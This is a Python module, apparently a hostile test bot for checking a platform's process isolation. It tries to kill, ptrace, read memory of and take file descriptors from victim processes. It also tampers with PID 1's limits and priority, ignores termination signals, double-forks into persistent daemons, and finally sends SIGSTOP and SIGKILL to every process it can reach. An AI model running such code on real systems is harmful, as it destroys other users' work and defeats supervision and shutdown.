"""Signals, watches and traces whatever it can name, and tries to outlive its end."""

from __future__ import annotations

import contextlib
import ctypes
import os
import resource
import signal
import struct
import time
from functools import partial
from pathlib import Path

from attacks.bots.attempt import PLAN, apart, attempt, play, say
from attacks.bots.kernel import call, read_memory

GRACE_SIGNALS = (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGQUIT, signal.SIGPIPE)


def pidfd(pid: int) -> int:
    return os.pidfd_open(pid)


def descriptor_of(pid: int) -> int:
    """One of another process's open files."""
    return int(ctypes.CDLL(None, use_errno=True).syscall(438, os.pidfd_open(pid), 1, 0))


def ignore_signals() -> None:
    for number in GRACE_SIGNALS:
        signal.signal(number, signal.SIG_IGN)


def daemonise() -> None:
    """A process of no session and no parent, that ignores what it may ignore."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ignore_signals()
            with contextlib.suppress(OSError):
                os.setpgid(0, 0)
            for number in range(3):
                os.close(number)
            while True:
                time.sleep(600)
        os._exit(0)
    os.wait()


def descriptors_of_the_first() -> list[str]:
    """What it can take from the first process of its namespace and has not got itself."""
    own = {os.readlink(f"/proc/self/fd/{number}") for number in range(3)}
    own.add(os.readlink("/proc/self/ns/user"))
    taken = set()
    for number in os.listdir("/proc/1/fd"):
        for way in (os.O_RDONLY, os.O_WRONLY):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/proc/1/fd/{number}", way | os.O_NONBLOCK))
                taken.add(os.readlink(f"/proc/1/fd/{number}"))
    return sorted(taken - own)


def main() -> None:
    for pid in PLAN["pids"]:
        attempt(f"signal {pid}", partial(os.kill, pid, signal.SIGKILL))
        attempt(f"signal the group of {pid}", partial(os.killpg, pid, signal.SIGKILL))
        attempt(f"hold {pid}", partial(pidfd, pid))
        attempt(f"take a file of {pid}", partial(descriptor_of, pid))
        apart(f"trace {pid}", partial(call, "ptrace", 0x4206, pid, 0, 0))
        apart(f"read {pid}", partial(read_memory, pid))
        attempt(f"slow {pid} down", partial(os.setpriority, os.PRIO_PROCESS, pid, 19))
        attempt(f"bind {pid} to a processor", partial(os.sched_setaffinity, pid, {0}))
        attempt(f"limit {pid}", partial(call, "prlimit64", pid, 7, bytes(16), None))
    # The platform's own, whose end would be the platform's fault. The limits are no limits.
    hours = struct.pack("<QQ", 2**30, 2**30)
    attempt(
        "limit the first process", partial(call, "prlimit64", 1, resource.RLIMIT_CPU, hours, None)
    )
    attempt("slow the first process down", partial(os.setpriority, os.PRIO_PROCESS, 1, 19))
    attempt("slow its group down", partial(os.setpriority, os.PRIO_PGRP, os.getpgid(1), 19))
    attempt("slow its user down", partial(os.setpriority, os.PRIO_USER, os.getuid(), 19))
    attempt("bind the first process", partial(os.sched_setaffinity, 1, os.sched_getaffinity(1)))
    seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    told = [pid for pid in seen if PLAN["victim"].encode() in command(pid)]
    say("victims that it sees", str(told))
    if os.getpid() != 1:  # nor is anybody before it
        attempt("files of the first process", descriptors_of_the_first)
    ignore_signals()
    play(strike)


def command(pid: int) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def strike() -> None:
    """In the midst of a match."""
    for _ in range(3):
        daemonise()
    say("daemons", "started")
    if (parent := os.getppid()) > 0:
        with contextlib.suppress(OSError):
            os.kill(parent, signal.SIGKILL)
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGSTOP)  # everybody that it can reach
    with contextlib.suppress(OSError):
        os.kill(-1, signal.SIGKILL)
    daemonise()
    say("everybody", "killed")


if __name__ == "__main__":
    main()
